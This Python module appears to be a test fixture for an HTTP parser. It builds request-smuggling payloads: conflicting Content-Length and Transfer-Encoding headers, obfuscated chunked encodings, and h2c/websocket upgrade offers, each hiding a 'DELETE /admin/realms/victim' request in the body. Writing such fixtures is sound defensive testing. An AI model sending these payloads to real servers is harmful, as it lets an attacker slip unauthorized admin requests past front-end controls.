"""Requests that hide another one in their bodies, from a reader that finds another end."""

from typing import Final

SMUGGLED: Final = b"DELETE /admin/realms/victim HTTP/1.1\r\nHost: x\r\nX-Swallowed: "
_H2C: Final = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAEAAEAAAAIAAAAB"
_WEBSOCKET: Final = (
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
)
_ALONE: Final = f"Content-Length: {len(SMUGGLED)}"
_WITH_CHUNK: Final = f"Content-Length: {5 + len(SMUGGLED)}"
HEADS: Final = {
    "an offer of h2c": f"{_H2C}\r\n{_ALONE}",
    "an offer of something": f"Connection: Upgrade\r\nUpgrade: x\r\n{_ALONE}",
    "an offer of websocket": f"{_WEBSOCKET}\r\n{_ALONE}",
    "length and chunks": "Content-Length: 5\r\nTransfer-Encoding: chunked",
    "chunks and length": f"Transfer-Encoding: chunked\r\n{_WITH_CHUNK}",
    "chunks by another name": f"Transfer-Encoding: xchunked\r\n{_WITH_CHUNK}",
    "chunks with a space": f"Transfer-Encoding : chunked\r\n{_WITH_CHUNK}",
    "chunks folded": f"Transfer-Encoding:\r\n chunked\r\n{_WITH_CHUNK}",
    "chunks twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "chunks with a tab": f"Transfer-Encoding:\tchunked\r\n{_WITH_CHUNK}",
    "two lengths": f"Content-Length: 5\r\n{_WITH_CHUNK}",
    "a length with a sign": f"Content-Length: +{5 + len(SMUGGLED)}",
    "connection names length": f"Connection: Content-Length\r\n{_WITH_CHUNK}",
    "a length of nothing": "Content-Length: 0",
    "no length": "X: y",
}
"""Lines of a head by what is wrong with them."""


def hiding(path: str, name: str, *more: str) -> bytes:
    """Build a request with one of these heads and ``more`` lines, for a reader that stops before the hidden
    one."""
    lines = "\r\n".join((f"POST {path} HTTP/1.1", "Host: keyturn.example", HEADS[name], *more))
    body = SMUGGLED if "offer" in name else b"0\r\n\r\n" + SMUGGLED
    return lines.encode() + b"\r\n\r\n" + body
